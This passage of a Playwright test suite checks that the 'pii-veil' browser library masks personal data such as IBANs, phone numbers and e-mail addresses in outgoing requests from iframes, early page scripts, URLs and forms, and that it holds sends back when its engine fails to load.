  assertNoLeak(named(V.iban, V.phone), 'shadow DOM');
  await page.close();
});

test('same-origin frames: a fresh fetch taken from an about:blank frame, a loaded frame\'s XHR', async () => {
  await open();
  await type('#chat-input', MSG);
  await page.evaluate(async () => {
    const v = document.getElementById('chat-input').value;
    const blank = document.createElement('iframe');
    document.body.appendChild(blank);
    const cleanFetch = blank.contentWindow.fetch; // a way around hooks on the page's own fetch
    await cleanFetch('/api/frame-fetch', { method: 'POST', body: v });
    // bodies of another realm: the page's Blob and bytes through the frame's fetch, the frame's Request through the page's
    await cleanFetch('/api/frame-blob', { method: 'POST', body: new Blob([v]) });
    await cleanFetch('/api/frame-u8', { method: 'POST', body: new TextEncoder().encode(v) });
    await fetch(new blank.contentWindow.Request('/api/frame-request', { method: 'POST', body: new blank.contentWindow.Blob([v]) }));
    const loaded = document.createElement('iframe');
    loaded.srcdoc = '<p>a frame of the same origin</p>';
    await new Promise((res) => { loaded.onload = res; document.body.appendChild(loaded); });
    await new Promise((res) => {
      const x = new loaded.contentWindow.XMLHttpRequest();
      x.open('POST', '/api/frame-xhr?m=' + encodeURIComponent(v));
      x.onloadend = res;
      x.send(new loaded.contentWindow.Blob([v]));
    });
  });
  for (const p of ['/api/frame-fetch', '/api/frame-blob', '/api/frame-u8', '/api/frame-request']) await waitRecorded((x) => x.path === p, p);
  await waitRecorded((x) => x.path === '/api/frame-xhr', 'frame XHR');
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'frames');
  await page.close();
});

test('a same-origin frame with pii-veil of its own: what it found is masked in the page\'s requests, and what the page found in the frame\'s', async () => {
  await open();
  await type('#chat-input', MSG);
  const inFrame = { name: 'Johann Gruber', iban: 'AT61 1904 3002 3457 3201' };
  await page.evaluate(() => new Promise((res) => {
    const f = document.createElement('iframe');
    f.id = 'own';
    f.srcdoc = '<!doctype html><html lang="de"><head><meta charset="utf-8"><script src="/dist/pii-veil.js" data-protect></script>'
      + '<title>frame</title></head><body><textarea id="t"></textarea></body></html>';
    f.onload = res;
    document.body.appendChild(f);
  }));
  const frame = page.frames().find((f) => f.url() === 'about:srcdoc');
  await frame.waitForFunction(() => window.PiiVeil && window.PiiVeil.page && window.PiiVeil.page.state === 'ready');
  await frame.click('#t');
  await page.keyboard.insertText(`Kontoinhaber ${inFrame.name}, IBAN ${inFrame.iban}`);
  await frame.waitForFunction(() => document.querySelectorAll('.pii-veil-layer mark').length >= 2);
  // the page sends the frame's text (read without the frame's window: no hook of the
  // page's copy on the frame is involved), the frame sends the page's
  await page.evaluate(() => fetch('/api/page-sends-frame', { method: 'POST', body: document.querySelector('#own').contentDocument.getElementById('t').value }));
  await frame.evaluate(() => fetch('/api/frame-sends-page', { method: 'POST', body: window.parent.document.getElementById('chat-input').value }));
  const sent = await waitRecorded((x) => x.path === '/api/page-sends-frame', 'the page\'s request');
  await waitRecorded((x) => x.path === '/api/frame-sends-page', 'the frame\'s request');
  assert.match(sent.body, /\[IBAN\]/);
  assertNoLeak(named(inFrame.name, inFrame.iban, V.iban, V.phone, V.email), 'frame with its own pii-veil');
  await page.close();
});

test('inline bootstrap: a submit and a fetch made before pii-veil.js arrived wait for it and go out masked', async () => {
  server.reset();
  other.reset();
  const boot = readFileSync(join(www, 'dist', 'bootstrap.min.js'), 'utf8');
  const hash = readFileSync(join(www, 'dist', 'bootstrap.csp'), 'utf8').trim();
  page = await context.newPage();
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  const url = server.url + 'test/pages/boot.html';
  await page.route(url, (route) => route.fulfill({
    contentType: 'text/html; charset=utf-8',
    headers: { 'content-security-policy': `default-src 'self'; script-src 'self' 'wasm-unsafe-eval' ${hash}; connect-src 'self'; worker-src 'self'; style-src 'self'` },
    body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><script>${boot}</script>`
      + '<script src="/dist/pii-veil.js" data-protect async></script><title>boot</title></head><body>'
      + '<form id="f" action="/api/boot-form" method="post" target="sink"><textarea id="msg" name="message"></textarea><button id="send">Send</button></form>'
      + '<iframe name="sink" title="result"></iframe></body></html>',
  }));
  let release;
  const late = new Promise((res) => { release = res; });
  await page.route('**/dist/pii-veil.js', async (route) => { await late; await route.continue(); });
  await page.goto(url, { waitUntil: 'domcontentloaded' });
  assert.equal(await page.evaluate(() => typeof window.PiiVeil), 'undefined', 'pii-veil.js has not arrived');
  await page.fill('#msg', MSG);
  await page.click('#send');
  await page.evaluate(() => { window.__status = fetch('/api/boot-fetch', { method: 'POST', body: document.getElementById('msg').value }).then((r) => r.status); });
  await new Promise((res) => setTimeout(res, 500));
  assert.equal(server.recorded.filter((x) => x.path.startsWith('/api/boot')).length, 0, 'held while pii-veil is missing');
  release();
  await waitRecorded((x) => x.path === '/api/boot-fetch', 'held fetch');
  const form = await waitRecorded((x) => x.path === '/api/boot-form', 'held submit');
  assert.equal(await page.evaluate(() => window.__status), 200);
  assert.match(new URLSearchParams(form.body).get('message'), /\[IBAN\]/);
  assertNoLeak(named(V.iban, V.phone, V.email, V.card, V.emailEn), 'bootstrap');
  await page.close();
});

test('a prefilled field is protected before the page\'s deferred and module scripts run, and a submit while the page is still parsed goes out masked', async () => {
  const send = (path) => `fetch('${path}', { method: 'POST', body: document.getElementById('pre').value })`;
  const url = await pageOf('parsing', '<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/pii-veil.js" data-protect></script>'
      + `<script>document.addEventListener('readystatechange', () => { if (document.readyState === 'interactive') ${send('/api/parsed-interactive')}; });</script>`
      + `<script type="module">${send('/api/parsed-module')};</script>`
      + '<title>parsing</title></head><body>'
      + `<form id="f" action="/api/parsed-submit" method="post" target="sink"><textarea id="pre" name="message">${MSG}</textarea><button id="send">Send</button></form>`
      + '<iframe name="sink" title="result"></iframe>'
      // the rest of the page waits for a slow script: the form is there, the page not parsed
      + '<script src="/test/pages/slow.js"></script><p>end</p></body></html>');
  let release;
  const late = new Promise((res) => { release = res; });
  await page.route('**/test/pages/slow.js', async (route) => { await late; await route.fulfill({ contentType: 'text/javascript', body: '' }); });
  const loaded = page.goto(url);
  await page.waitForSelector('#send');
  await page.waitForFunction(() => window.PiiVeil.page.state === 'ready' && document.readyState === 'loading');
  await page.click('#pre');
  await page.keyboard.press('End');
  await page.keyboard.insertText(` Tel. ${V.phone}`);
  await page.click('#send');
  const submitted = await waitRecorded((x) => x.path === '/api/parsed-submit', 'the submit while the page is parsed');
  assert.match(new URLSearchParams(submitted.body).get('message'), /\[IBAN\].*\[PHONE\]/s);
  release();
  await loaded;
  for (const path of ['/api/parsed-interactive', '/api/parsed-module']) {
    const r = await waitRecorded((x) => x.path === path, path);
    assert.match(r.body, /\[IBAN\]/, path);
  }
  assertNoLeak(named(V.name, V.iban, V.phone, V.email, V.card, V.emailEn), 'while parsed');
  await page.close();
});

test('the badge and its list are out of the page\'s reach: its queries, its form\'s elements, its stylesheet', async () => {
  const url = await pageOf('reach', '<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/pii-veil.js" data-protect></script>'
      + '<style>button { display: block; width: 300px; height: 60px; text-transform: uppercase; } span { display: block !important; }</style><title>reach</title></head><body>'
      // the field alone in a wrapper wider than it: the badge on the field's corner, not the wrapper's
      + '<form id="f" action="/api/reach" method="post" target="sink"><div style="padding: 20px; width: 600px"><textarea id="msg" name="message" cols="30" rows="4"></textarea></div><button id="send">Send</button></form>'
      // a field in a scrolling box that is no containing block
      + `<div id="sc" style="overflow: auto; height: 120px; padding: 24px"><textarea id="t2" rows="3">${MSG}</textarea><div style="height: 400px"></div></div>`
      + '<iframe name="sink" title="result"></iframe></body></html>');
  await page.goto(url);
  await page.waitForFunction(() => window.PiiVeil.page && window.PiiVeil.page.state === 'ready');
  // the layer of a field in a scrolling box follows it when the box scrolls
  await page.waitForFunction(() => document.querySelector('#t2 + .pii-veil-layer mark'));
  const offset = () => page.evaluate(() => {
    const t = document.getElementById('t2').getBoundingClientRect(), l = document.querySelector('#t2 + .pii-veil-layer').getBoundingClientRect();
    return Math.round(l.top - t.top);
  });
  const before = await offset();
  await page.evaluate(() => { document.getElementById('sc').scrollTop = 40; });
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
  assert.equal(await offset(), before, 'the layer moved with the field');
  await page.click('#msg');
  await page.keyboard.insertText(MSG);
  const badge = page.locator('#f .pii-veil-badge'); // the test's locator looks into shadow roots
  await badge.waitFor();
  await badge.click();
  await page.locator('.pii-veil-popup').waitFor();
  const seen = await page.evaluate(() => {
    const f = document.getElementById('f');
    const b = document.querySelector('.pii-veil-host').shadowRoot.querySelector('.pii-veil-badge');
    const cs = getComputedStyle(b);
    return {
      first: f.querySelector('button').id, elements: [...f.elements].map((e) => e.id), buttons: document.querySelectorAll('button').length,
      height: parseFloat(cs.height), transform: cs.textTransform, shown: !b.hidden && Number(b.textContent) > 0,
      host: getComputedStyle(document.querySelector('.pii-veil-host')).display,
      corner: (() => {
        const r = b.getBoundingClientRect(), t = document.getElementById('msg').getBoundingClientRect();
        return [Math.round((r.left + r.right) / 2 - t.right), Math.round((r.top + r.bottom) / 2 - t.top)];
      })(),
    };
  });
  assert.deepEqual(seen, { first: 'send', elements: ['msg', 'send'], buttons: 1, height: seen.height, transform: 'none', shown: true, host: 'contents', corner: seen.corner });
  assert.ok(Math.abs(seen.corner[0]) <= 4 && Math.abs(seen.corner[1]) <= 4, `the badge's centre on the field's top right corner: ${seen.corner}`);
  assert.ok(seen.height < 30, `the page's button height does not reach the badge: ${seen.height}px`);
  await page.close();
});

test('the network guard scans the URLs it guards: a query string and a path segment of fetch, a Request, XHR and a beacon, also sent while the engine loads', async () => {
  const q = (path) => `${path}?q=` + encodeURIComponent(`IBAN ${V.iban}, ${V.name}`) + '&page=2';
  await openWithModule('guard-urls', '<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/pii-veil.loader.js" data-protect data-guard="self,/api/url-"></script>'
      // while the module loads: a search typed into a field nobody protects
      + `<script>window.__early = fetch(${JSON.stringify(q('/api/url-early'))}).then((r) => r.status);`
      // aborted while it waits for the module: it rejects then (the engine still loading), and nothing is sent
      + `const ac = new AbortController(); window.__aborted = fetch('/api/url-aborted', { signal: ac.signal }).then(() => 'sent', (e) => e.name + '@' + PiiVeil.page.state); ac.abort();`
      // an XHR opened while the module loads and sent at once: opened again with its URL masked
      + `const x = new XMLHttpRequest(); x.open('GET', ${JSON.stringify(q('/api/url-xhr-early'))}); x.setRequestHeader('x-kept', 'yes'); x.send();</script>`
      + '<title>guard urls</title></head><body><input id="search" data-pii-veil="off"></body></html>',
  // the module comes a second late: what the page sends meanwhile waits for it
  1000);
  await page.waitForFunction(() => window.PiiVeil.page && window.PiiVeil.page.state === 'ready');
  await page.evaluate(([a, b, c, d, mail]) => {
    fetch(a);
    fetch(new Request(b));
    const x = new XMLHttpRequest();
    x.open('GET', c);
    x.send();
    navigator.sendBeacon(d);
    fetch('/api/url-user/' + encodeURIComponent(mail) + '/orders');
    fetch('/api/open?q=' + encodeURIComponent(mail)); // not guarded: as it is
    // a name without a value; a piece not UTF-8, a name without '=', ';' parameters: as written
    fetch('/api/url-key?' + encodeURIComponent(mail));
    fetch('/api/url-raw;v=2/x?legacy=M%FCller&e=' + encodeURIComponent(mail) + '&empty');
    // a Request with a Blob body and a masked URL: its body sent as bytes
    window.__blob = fetch(new Request('/api/url-blob?e=' + encodeURIComponent(mail), { method: 'POST', body: new Blob([new Uint8Array([1, 2, 3, 4])]) })).then((r) => r.status);
  }, [q('/api/url-fetch'), q('/api/url-request'), q('/api/url-xhr'), q('/api/url-beacon'), V.email]);
  const early = await waitRecorded((x) => x.path === '/api/url-xhr-early', 'the XHR opened while the module loaded');
  assert.equal(early.headers['x-kept'], 'yes', 'its headers set again');
  assert.equal((await waitRecorded((x) => x.path === '/api/url-key', 'a name')).url, '/api/url-key?%5BEMAIL%5D');
  assert.equal((await waitRecorded((x) => x.path === '/api/url-raw;v=2/x', 'pieces as written')).url, '/api/url-raw;v=2/x?legacy=M%FCller&e=%5BEMAIL%5D&empty');
  const blob = await waitRecorded((x) => x.path === '/api/url-blob', 'a Blob body');
  assert.deepEqual([...blob.bytes], [1, 2, 3, 4]);
  assert.equal(await page.evaluate(() => window.__blob), 200);
  for (const path of ['/api/url-early', '/api/url-xhr-early', '/api/url-fetch', '/api/url-request', '/api/url-xhr', '/api/url-beacon']) {
    const r = await waitRecorded((x) => x.path === path, path);
    const params = new URL(r.url, server.url).searchParams;
    assert.match(params.get('q'), /^IBAN \[IBAN\], \[PERSON\]$/, path);
    assert.equal(params.get('page'), '2', path);
  }
  const user = await waitRecorded((x) => x.path.startsWith('/api/url-user/'), 'a path segment');
  assert.equal(decodeURIComponent(user.path), '/api/url-user/[EMAIL]/orders');
  const other = await waitRecorded((x) => x.path === '/api/open', 'an unguarded URL');
  assert.equal(new URL(other.url, server.url).searchParams.get('q'), V.email);
  server.recorded.splice(server.recorded.indexOf(other), 1); // sent as it is, by design
  assertNoLeak(named(V.name, V.iban, V.email), 'guarded URLs');
  assert.equal(await page.evaluate(() => window.__early), 200);
  assert.equal(await page.evaluate(() => window.__aborted), 'AbortError@loading');
  assert.equal(server.recorded.filter((x) => x.path === '/api/url-aborted').length, 0);
  await page.close();
  // the engine cannot load: a guarded XHR without a body is refused too
  await openWithModule('guard-urls', '<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/pii-veil.loader.js" data-protect data-guard="self,/api/url-"></script><title>guard urls</title></head><body></body></html>', 'fails');
  assert.equal(await page.evaluate(() => window.PiiVeil.page.ready), false);
  const outcome = await page.evaluate((u) => new Promise((res) => {
    const x = new XMLHttpRequest();
    x.open('GET', u);
    x.onerror = () => res('refused');
    x.onload = () => res('sent');
    x.send();
  }), q('/api/url-failed'));
  assert.equal(outcome, 'refused');
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(server.recorded.filter((x) => x.path === '/api/url-failed').length, 0);
  await page.close();
});

for (const script of ['pii-veil.js', 'pii-veil.loader.js']) {
  test(`${script} with data-guard guards the page's own scripts from the start: a send while the page is parsed, a fetch kept then`, async () => {
    const url = await pageOf('guard-early', `<!doctype html><html lang="en"><head><meta charset="utf-8"><script src="/dist/${script}" data-protect data-guard="self,/api/"></script>`
        // a page script in <head>: sends at once, and keeps the fetch it finds
        + `<script>window.__kept = window.fetch; window.__early = fetch('/api/guard-early', { method: 'POST', body: ${JSON.stringify(MSG)} }).then((r) => r.status);</script>`
        + '<title>guard</title></head><body><textarea id="msg"></textarea>'
        + "<script>window.__told = []; document.addEventListener('pii-veil:ready', () => window.__told.push(PiiVeil.page.fields().length));</script>"
        + '</body></html>');
    await page.goto(url);
    const early = await waitRecorded((x) => x.path === '/api/guard-early', 'the send made in <head>');
    assert.match(early.body, /\[IBAN\]/);
    assert.equal(await page.evaluate(() => window.__early), 200);
    await page.evaluate((m) => window.__kept('/api/guard-kept', { method: 'POST', body: m }), MSG);
    const kept = await waitRecorded((x) => x.path === '/api/guard-kept', 'the send through the kept fetch');
    assert.match(kept.body, /\[IBAN\]/);
    assertNoLeak(named(V.name, V.iban, V.phone, V.email, V.card, V.emailEn), script);
    // ready is told once, when the fields of the parsed page are attached
    assert.deepEqual(await page.evaluate(() => window.__told), [1]);
    assert.equal(await page.evaluate(() => window.PiiVeil.page.ready.then(() => window.PiiVeil.page.fields().length)), 1);
    await page.close();
  });
}

test('no guard: a chat box its script empties before posting and new FormData(form), sent while the module loads, wait and go masked; after a failed load every send of what a protected field holds or held is held back, the text kept', async () => {
  const body = loaderPage('held', '<form id="t"><input name="subject"><textarea id="d" name="description"></textarea><button type="button">Send</button></form><textarea id="box"></textarea>'
    + `<script>${KEEP_BLOCKED}`
    // a chat widget: reads its box, empties it (its own setter), then posts the message
    + "window.chat = () => { const box = document.getElementById('box'); const m = box.value; box.value = ''; return fetch('/api/held-chat', { method: 'POST', body: JSON.stringify({ message: m }) }).then((r) => r.status, (e) => e.code); };"
    + "window.ticket = () => fetch('/api/held-ticket', { method: 'POST', body: new FormData(document.getElementById('t')) }).then((r) => r.status, (e) => e.code);"
    + "window.xhr = () => new Promise((ok) => { const x = new XMLHttpRequest(); x.open('POST', '/api/held-xhr'); x.onload = () => ok(x.status); x.onerror = () => ok('error'); x.send(document.getElementById('d').value); });"
    + '</script>');
  // the chat's message and the form hold different values: each send is judged by what it carries
  const said = `Meine IBAN ist ${V.iban}, Mail ${V.email}`;
  const described = `Tel ${V.phone}, Karte ${V.card}`;
  const fillForm = async () => {
    await type('#d', described);
    await page.fill('input[name=subject]', 'Refund');
  };
  // the module comes late: the sends are made while it loads
  await openWithModule('held', body, 1500);
  await page.waitForFunction(() => window.PiiVeil.page && document.readyState === 'complete');
  // the box the chat empties is the only protected field holding text when it posts
  await type('#box', said);
  const chatted = page.evaluate(() => { const state = PiiVeil.page.state; return chat().then((r) => [state, r]); });
  await fillForm();
  assert.deepEqual(await page.evaluate(() => { const state = PiiVeil.page.state; return ticket().then((r) => [state, r]); }), ['loading', 200]);
  assert.deepEqual(await chatted, ['loading', 200]);
  const chatBody = JSON.parse((await waitRecorded((x) => x.path === '/api/held-chat', 'the chat message')).body);
  assert.equal(chatBody.message, 'Meine IBAN ist [IBAN], Mail [EMAIL]');
  const form = (await waitRecorded((x) => x.path === '/api/held-ticket', 'the form\'s entries')).body;
  assert.match(form, /name="subject"\r\n\r\nRefund\r\n/);
  assert.match(form, /name="description"\r\n\r\nTel \[PHONE\], Karte \[CREDIT_CARD\]\r\n/);
  assertNoLeak(named(V.iban, V.email, V.phone, V.card), 'sent while the module loaded');
  await page.close();
  // the module cannot load: sends after the failure are held back too, the chat's
  // although its box is empty when it posts
  await openWithModule('held', body, 'fails');
  assert.equal(await page.evaluate(() => PiiVeil.page.ready), false);
  await type('#box', said);
  assert.equal(await page.evaluate(() => chat()), 'engine_unavailable');
  await fillForm();
  assert.deepEqual(await page.evaluate(() => Promise.all([ticket(), xhr()])), ['engine_unavailable', 'error']);
  assert.equal(await page.evaluate(() => navigator.sendBeacon('/api/held-beacon', document.getElementById('d').value)), false, 'a beacon says it was not queued');
  assert.deepEqual(await page.evaluate(() => blocked), ['fetch:engine_unavailable', 'fetch:engine_unavailable', 'xhr:engine_unavailable', 'beacon:engine_unavailable']);
  assert.equal(await page.inputValue('#d'), described, 'the text stays in the field');
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(server.recorded.filter((x) => x.path.startsWith('/api/held-')).length, 0);
  await page.close();
});

test('no guard, while the module loads: each message of a box a framework empties without the element\'s setter, and a form\'s entries read just before the page removed the form, go masked; after a failed load they are held back', async () => {
  const body = loaderPage('held', '<textarea id="box"></textarea><div id="dlg"><form id="t"><textarea id="d" name="description"></textarea></form></div>'
    + '<script>'
    // the box's own value property, as React defines one: it calls the prototype's setter
    + "const box = document.getElementById('box'); const own = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value');"
    + "Object.defineProperty(box, 'value', { configurable: true, get() { return own.get.call(this); }, set(v) { own.set.call(this, v); } });"
    + "window.chat = () => { const m = box.value; box.value = ''; return fetch('/api/held-chat', { method: 'POST', body: m }).then((r) => r.status, (e) => e.code); };"
    + "window.ticket = () => { const fd = new FormData(document.getElementById('t')); document.getElementById('dlg').remove();"
    + " return fetch('/api/held-ticket', { method: 'POST', body: fd }).then((r) => r.status, (e) => e.code); };"
    + '</script>');
  const first = `IBAN ${V.iban}`;
  const described = `Mail ${V.email}`;
  await openWithModule('held-gone', body, 1500);
  await page.waitForFunction(() => window.PiiVeil.page && document.readyState === 'complete');
  await type('#box', first);
  const sentFirst = page.evaluate(() => chat());
  await type('#box', 'Danke schön'); // the next message, typed while the first waits
  await type('#d', described);
  const sentForm = page.evaluate(() => ticket());
  assert.equal(await page.evaluate(() => PiiVeil.page.state), 'loading');
  assert.deepEqual([await sentFirst, await sentForm], [200, 200]);
  assert.equal((await waitRecorded((x) => x.path === '/api/held-chat', 'the first message')).body, 'IBAN [IBAN]');
  assert.match((await waitRecorded((x) => x.path === '/api/held-ticket', 'the removed form\'s entries')).body, /\r\n\r\nMail \[EMAIL\]\r\n/);
  assertNoLeak(named(V.iban, V.email), 'sent while the module loaded');
  await page.close();
  await openWithModule('held-gone', body, 'fails');
  assert.equal(await page.evaluate(() => PiiVeil.page.ready), false);
  await type('#d', described);
  assert.equal(await page.evaluate(() => ticket()), 'engine_unavailable');
  await new Promise((r) => setTimeout(r, 300));
  assert.equal(server.recorded.filter((x) => x.path.startsWith('/api/held-')).length, 0);
  await page.close();
});

test('a module download that stops coming is given up after 20 s without a byte: the send that waited is refused, the text kept; a slow download that keeps coming is not given up', async () => {
  const body = loaderPage('stall', `<textarea id="box"></textarea><script>${KEEP_BLOCKED}`
    + "window.send = () => fetch('/api/stall-chat', { method: 'POST', body: document.getElementById('box').value }).then((r) => r.status, (e) => e.code);"
    + '</script>');
  const said = `IBAN ${V.iban}`;
  const state = () => page.evaluate(() => window.PiiVeil && window.PiiVeil.page && window.PiiVeil.page.state);
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  // The page's clock is Playwright's: its timers run only as the test moves it on.
  async function openTrickled(trickle) {
    const url = await pageOf('stall', body);
    const errors = [];
    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
    await page.clock.install();
    await page.route('**/dist/pii-veil.wasm', (route) => route.continue({ url: route.request().url() + '?trickle=' + trickle }));
    await page.goto(url);
    await type('#box', said);
    return errors;
  }

  // Its first 64 KB, then nothing on a connection left open.
  const errors = await openTrickled('stall');
  const sent = page.evaluate(() => send());
  await sleep(500);
  await page.clock.runFor(19000);
  assert.equal(await state(), 'loading', 'no byte for 19 s: still loading');
  await page.clock.runFor(2000);
  const settled = (p) => Promise.race([p, sleep(5000).then(() => 'still waiting')]);
  assert.equal(await settled(sent), 'engine_unavailable');
  assert.equal(await state(), 'failed');
  assert.deepEqual(await page.evaluate(() => blocked), ['fetch:engine_unavailable']);
  assert.deepEqual(errors, ['pii-veil: the .wasm module did not come (no byte for 20 s); protection is held back'], 'told once, why');
  assert.equal(await page.inputValue('#box'), said, 'the text stays in the field');
  assert.match(await page.textContent('[role=alert]'), /could not load, so sending is paused/, 'the person is told');
  await page.close();

  // 64 KB every 150 ms, 4 s of the page's time passing every 200 ms: more than 20 s in
  // all, never 20 s without a byte.
  await openTrickled('150');
  const later = page.evaluate(() => send());
  for (let i = 0; i < 100 && await state() === 'loading'; i++) {
    await sleep(200);
    await page.clock.runFor(4000);
  }
  assert.equal(await state(), 'ready');
  assert.equal(await settled(later), 200);
  assert.equal((await waitRecorded((x) => x.path === '/api/stall-chat', 'the message')).body, 'IBAN [IBAN]');
  assertNoLeak(named(V.iban), 'sent while the module came slowly');
  assert.equal(server.recorded.filter((x) => x.path === '/api/stall-chat').length, 1);
  await page.close();
});

test('a prefilled field is scanned first in the worker that starts with the engine (nothing on the main thread), and on the page when that worker cannot load', async () => {
  const said = `Meine IBAN ist ${V.iban}, Mail ${V.email}`;
  const body = loaderPage('first', `<textarea id="m">${said}</textarea>`
    + "<script>window.found = []; document.addEventListener('pii-veil:findings', (e) => found.push(e.detail.total), true);</script>");
  for (const workerLoads of [true, false]) {
    const url = await pageOf('first-scan', body);
    // the page's script, then the same file as the worker's (refused: the worker fails to load)
    let scripts = 0;
    await page.route('**/dist/pii-veil.loader.js', (route) => (++scripts > 1 && !workerLoads ? route.fulfill({ status: 404, body: '' }) : route.continue()));
    await page.goto(url);
    await page.waitForFunction(() => window.found.includes(2));
    const stats = await page.evaluate(() => window.PiiVeil.page.stats);
    if (workerLoads) {
      assert.equal(stats.mainScans, 0, 'nothing scanned on the main thread');
      assert.ok(stats.workerScans >= 1 && stats.workerReady);
    } else {
      assert.equal(scripts, 2, 'the worker asked for its script');
      assert.equal(stats.mainScans, 1, 'scanned on the page instead');
      assert.equal(stats.workerReady, false);
    }
    assert.equal(await page.inputValue('#m'), said);
    await page.close();
  }
});

test('no console errors or page errors', () => {
  assert.deepEqual(problems, []);
});
